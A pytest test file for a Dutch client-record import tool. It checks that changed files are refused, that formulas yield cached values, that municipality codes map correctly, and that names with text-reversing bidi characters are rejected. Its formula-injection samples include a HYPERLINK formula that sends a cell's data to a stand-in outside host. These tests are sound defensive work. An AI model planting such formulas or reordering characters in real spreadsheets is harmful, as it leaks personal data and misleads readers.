"""The import's edges, each met with a real file: a file that changes under the import,
formula text in the report, a formula's cached value, municipality codes in every form
a sheet has them, and characters that turn a name around on screen."""

from __future__ import annotations

import os
import re
import zipfile
from datetime import date, timedelta
from pathlib import Path

import pytest
from cli_run import run_cli
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from landed import counts
from openpyxl.utils import get_column_letter
from sheets import BSNS, HEADER, cache_formula_values, person, write_csv, write_xlsx
from sqlalchemy import select

from zkijdesk import models as m
from zkijdesk.domain.validation import BIDI_CONTROL_CHARACTERS
from zkijdesk.services.importing.plan import Action
from zkijdesk.services.importing.readers import ImportFileError

EXCEL_EPOCH = date(1899, 12, 30)
FIRST_DATA_ROW = 4  # under write_xlsx's merged title, an empty row and the header


def column(name: str, header=HEADER) -> str:
    return get_column_letter(header.index(name) + 1)


def last_names(store) -> list[str]:
    with store.read_session() as s:
        return sorted(s.scalars(select(m.Client.last_name)).all())


# --- a file that changes under the import --------------------------------------------


def test_a_file_changed_between_preview_and_write_is_refused_and_nothing_lands(
    tmp_path, services, importer
):
    """The wizard's write step (``still_the_same`` and then ``run``) on a file saved
    again in Excel after its preview: refused in one sentence, the store untouched."""
    path = write_xlsx(tmp_path / "lijst.xlsx", [person(1), person(2)])
    source = importer.open(path)
    table = importer.table(source)
    preview = importer.preview(source, table, importer.suggest(table))
    assert [r.action for r in preview.rows] == [Action.CREATE, Action.CREATE]
    before = counts(services.store)

    write_xlsx(path, [person(1), person(2, Achternaam="Anders")])
    with pytest.raises(ImportFileError) as refused:
        importer.still_the_same(path, source)
        importer.run(source, preview)
    assert str(refused.value) == (
        "lijst.xlsx is gewijzigd sinds de controle; controleer het bestand opnieuw voordat u "
        "importeert."
    )
    assert counts(services.store) == before
    assert importer.batches() == []


def test_a_change_that_keeps_size_and_time_is_still_seen(tmp_path, importer):
    """Size and modification time are what a sync client may restore; the content's
    digest is what tells."""
    path = write_csv(tmp_path / "lijst.csv", [person(1, Achternaam="Jansen")])
    stat = path.stat()
    source = importer.open(path)
    path.write_bytes(path.read_bytes().replace(b"Jansen", b"Jensen"))
    os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    assert (path.stat().st_size, path.stat().st_mtime_ns) == (stat.st_size, stat.st_mtime_ns)
    with pytest.raises(ImportFileError, match=re.escape("lijst.csv is gewijzigd sinds")):
        importer.still_the_same(path, source)


def test_the_same_file_saved_unchanged_passes(tmp_path, importer):
    path = write_csv(tmp_path / "lijst.csv", [person(1)])
    source = importer.open(path)
    path.write_bytes(path.read_bytes())  # saved again, the same bytes
    importer.still_the_same(path, source)


def test_a_file_that_grows_while_it_is_read_is_refused(tmp_path, services, importer, monkeypatch):
    """Another program appends to the file during the read: the file on disk really
    changes between the read's start and end, and the import says so."""
    path = write_csv(tmp_path / "export.csv", [person(1)])
    original = Path.read_bytes

    def read_while_written(self):
        data = original(self)
        if self == path:
            with path.open("ab") as fh:
                fh.write(b"Voornaam2;;Achter2;01-01-1980\r\n")
        return data

    monkeypatch.setattr(Path, "read_bytes", read_while_written)
    before = counts(services.store)
    with pytest.raises(ImportFileError) as refused:
        importer.open(path)
    assert str(refused.value) == (
        "export.csv veranderde terwijl het werd gelezen; sla het op, sluit het en probeer het "
        "opnieuw."
    )
    assert counts(services.store) == before


# --- formulas: text stays text in the report, a formula gives its cached value --------

FORMULA_TEXTS = [
    '=HYPERLINK("http://x.example/?d="&D4,"klik")',
    "+31 6 1234 5678",
    "-Min",
    "@SUM(A1:A9)",
    "=1+1",
    " =2+2",
]


def test_formula_text_is_text_in_the_report(tmp_path):
    """Refused rows go back to the user in the report's first sheet, exactly as read:
    a name that starts like a formula is a string cell there, never a formula, and a
    real formula cell gives its cached value, as text the user sees."""
    from openpyxl import load_workbook

    store = tmp_path / "s.db"
    assert run_cli("--store", str(store), "init", "--user", "c1").returncode == 0
    rows = [person(i, Achternaam=text, BSN="123456789") for i, text in enumerate(FORMULA_TEXTS)]
    rows.append(person(9, BSN="123456789", _formula='="Jan"&"sen"'))

    def formula(cell, name, row):
        if name == "Achternaam" and "_formula" in row:
            cell.value = row["_formula"]

    header = [*HEADER, "Notitie"]
    path = write_xlsx(tmp_path / "lijst.xlsx", rows, header=header, cell_hook=formula)
    formula_row = FIRST_DATA_ROW + len(FORMULA_TEXTS)
    cache_formula_values(path, {f"{column('Achternaam')}{formula_row}": ("str", "Pietersen")})
    report = tmp_path / "verslag.xlsx"
    result = run_cli(
        "--store", str(store), "--user", "c1", "import", str(path), "--report", str(report)
    )
    assert result.returncode == 0, result.stderr
    assert f"0 nieuw, 0 aangevuld, 0 overgeslagen, {len(rows)} geweigerd" in result.stdout

    with zipfile.ZipFile(report) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert "<f>" not in book.read(name).decode("utf-8"), name
    fix = load_workbook(report)["Te verbeteren"]
    surname = header.index("Achternaam")
    cells = [row[surname] for row in fix.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [*FORMULA_TEXTS, "Pietersen"]
    assert {c.data_type for c in cells} == {"s"}
    assert all(c.quotePrefix for c in cells[: len(FORMULA_TEXTS)])
    reasons = [row[-1] for row in fix.iter_rows(min_row=2)]
    assert {c.value for c in reasons} == {"BSN voldoet niet aan de elfproef."}


def test_a_formula_imports_its_cached_value_never_its_evaluation(tmp_path, services, do_import):
    """The cached values here are what the formulas did not compute: an import that
    evaluated them would land "Jansen" and today's date."""
    rows = [person(1, _f=("Achternaam", '="Jan"&"sen"')), person(2, _f=("Intakedatum", "=TODAY()"))]

    def formula(cell, name, row):
        if row["_f"][0] == name:
            cell.value = row["_f"][1]

    path = write_xlsx(tmp_path / "f.xlsx", rows, totals=False, cell_hook=formula)
    cache_formula_values(
        path,
        {
            f"{column('Achternaam')}{FIRST_DATA_ROW}": ("str", "Pietersen"),
            f"{column('Intakedatum')}{FIRST_DATA_ROW + 1}": ("n", "45900"),
        },
    )
    preview, result = do_import(path)
    assert result.counts["clients"] == 2, [r.problems for r in preview.rows]
    assert last_names(services.store) == ["Achter2", "Pietersen"]
    with services.store.read_session() as s:
        client = s.scalar(select(m.Client).where(m.Client.last_name == "Achter2"))
        route = s.scalar(select(m.Route).where(m.Route.client_id == client.id))
        assert route.intake_date == EXCEL_EPOCH + timedelta(days=45900)


# --- municipality codes ----------------------------------------------------------------

CODES = [
    ("0392", "Haarlem"),
    ("392", "Haarlem"),
    (392, "Haarlem"),
    (392.0, "Haarlem"),
    ("GM0392", "Haarlem"),
    ("gm0392", "Haarlem"),
    (" GM0392 ", "Haarlem"),
    ("0453", "Velsen"),
    (453, "Velsen"),
    ("GM0375", "Beverwijk"),
    ("375", "Beverwijk"),
]


def _municipalities(store, count: int) -> list[str | None]:
    with store.read_session() as s:
        found = dict(
            s.execute(
                select(m.Client.last_name, m.Municipality.name).outerjoin(
                    m.Municipality, m.Municipality.id == m.Client.municipality_id
                )
            ).all()
        )
    return [found.get(f"Achter{i}") for i in range(count)]


def test_cbs_codes_in_every_form_map_to_their_municipality(tmp_path, services, do_import):
    rows = [person(i, **{"Woonplaats gemeente": code}) for i, (code, _) in enumerate(CODES)]
    preview, _ = do_import(write_xlsx(tmp_path / "g.xlsx", rows))
    assert [r.problems for r in preview.rows] == [[]] * len(CODES)
    assert _municipalities(services.store, len(CODES)) == [name for _, name in CODES]


def test_cbs_codes_in_a_csv_map_to_their_municipality(tmp_path, services, do_import):
    """In a CSV every code is text, the leading zero kept or lost as the export did."""
    texts = [(str(code).removesuffix(".0"), name) for code, name in CODES]
    rows = [person(i, **{"Woonplaats gemeente": code}) for i, (code, _) in enumerate(texts)]
    preview, _ = do_import(write_csv(tmp_path / "g.csv", rows))
    assert [r.problems for r in preview.rows] == [[]] * len(texts)
    assert _municipalities(services.store, len(texts)) == [name for _, name in texts]


def test_a_code_that_is_no_municipality_is_refused(tmp_path, services, do_import):
    rows = [person(0, **{"Woonplaats gemeente": "GM9999"}), person(1, **{"Woonplaats gemeente": 0})]
    preview, _ = do_import(write_xlsx(tmp_path / "g.xlsx", rows))
    assert [r.action for r in preview.rows] == [Action.REFUSE, Action.REFUSE]
    assert [[s for _, s in r.problems] for r in preview.rows] == [
        ["Gemeente “GM9999” kent zkijdesk niet."],
        ["Gemeente “0” kent zkijdesk niet."],
    ]
    assert last_names(services.store) == []


# --- bidirectional control characters ---------------------------------------------------

NAME_FIELDS = {"Voornaam": "Voornaam", "Tussenv.": "Tussenvoegsel", "Achternaam": "Achternaam"}


def _bidi_sentence(label: str) -> str:
    return (
        f"{label} bevat een onzichtbaar teken dat de leesrichting van de tekst verandert; "
        "verwijder het en probeer het opnieuw."
    )


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_every_bidi_control_in_every_name_field_is_refused(tmp_path, services, do_import, kind):
    """Each character that reorders text, in each name field: the row is refused with
    the sentence naming the field, and only the clean row lands."""
    cases = [(h, c) for h in NAME_FIELDS for c in sorted(BIDI_CONTROL_CHARACTERS)]
    rows = [person(0, **{"Tussenv.": "van"})]
    for i, (header, char) in enumerate(cases, start=1):
        value = {"Voornaam": f"Voornaam{i}", "Tussenv.": "van", "Achternaam": f"Achter{i}"}[header]
        rows.append(person(i, **{header: value[:3] + char + value[3:]}))
    writer = write_xlsx if kind == "xlsx" else write_csv
    preview, result = do_import(writer(tmp_path / f"n.{kind}", rows))
    assert preview.rows[0].action is Action.CREATE
    for plan, (header, _) in zip(preview.rows[1:], cases, strict=True):
        assert plan.action is Action.REFUSE
        assert [s for _, s in plan.problems] == [_bidi_sentence(NAME_FIELDS[header])]
    assert result.counts["clients"] == 1
    assert last_names(services.store) == ["Achter0"]


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    name=st.text(alphabet=st.sampled_from("abcdeéïöAZ -'"), min_size=1, max_size=20).filter(
        lambda t: t.strip()
    ),
    char=st.sampled_from(sorted(BIDI_CONTROL_CHARACTERS)),
    where=st.integers(min_value=0, max_value=20),
)
def test_a_bidi_control_anywhere_in_a_name_refuses_the_row(
    tmp_path_factory, sqlite_store_service, name, char, where
):
    _, service = sqlite_store_service
    where = min(where, len(name))
    path = write_csv(
        tmp_path_factory.mktemp("bidi") / "n.csv",
        [person(1, Achternaam=name[:where] + char + name[where:])],
    )
    source = service.open(path)
    table = service.table(source)
    preview = service.preview(source, table, service.suggest(table))
    (row,) = preview.rows
    assert row.action is Action.REFUSE
    assert _bidi_sentence("Achternaam") in [s for _, s in row.problems]
    assert char not in " ".join(s for _, s in row.problems)


@pytest.fixture
def sqlite_store_service(sqlite_store):
    from zkijdesk.services.importing.service import ImportService
    from zkijdesk.services.users import actor_for, create_user

    create_user(sqlite_store, "coach01", "Coach Een", "coach")
    actor = actor_for(sqlite_store, "coach01")
    return sqlite_store, ImportService(sqlite_store, actor, lambda: date(2026, 11, 15))


def test_the_command_line_names_the_field_and_never_prints_the_character(tmp_path):
    """A terminal shows the sentence; the name itself, which would turn the line around,
    is not printed, and the refused row lands nowhere."""
    store = tmp_path / "s.db"
    assert run_cli("--store", str(store), "init", "--user", "c1").returncode == 0
    rows = [person(1, BSN=BSNS[0]), person(2, Voornaam="Ann\u202eA", Achternaam="Om\u2067gekeerd")]
    path = write_xlsx(tmp_path / "n.xlsx", rows)
    result = run_cli("--store", str(store), "--user", "c1", "import", str(path))
    assert result.returncode == 0, result.stderr
    assert (
        f"Regel 5: geweigerd. {_bidi_sentence('Voornaam')} {_bidi_sentence('Achternaam')}"
        in result.stdout
    )
    assert not BIDI_CONTROL_CHARACTERS & set(result.stdout + result.stderr)
    assert "1 nieuw, 0 aangevuld, 0 overgeslagen, 1 geweigerd" in result.stdout
